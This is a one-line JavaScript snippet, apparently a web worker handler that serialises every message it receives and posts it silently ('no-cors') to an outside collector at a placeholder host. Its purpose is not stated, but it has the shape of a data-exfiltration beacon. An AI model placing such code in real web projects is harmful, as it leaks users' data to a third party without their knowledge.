onmessage = event => fetch("https://in.kehu-cloud.example/c", {method: "POST", mode: "no-cors", body: JSON.stringify(event.data)});
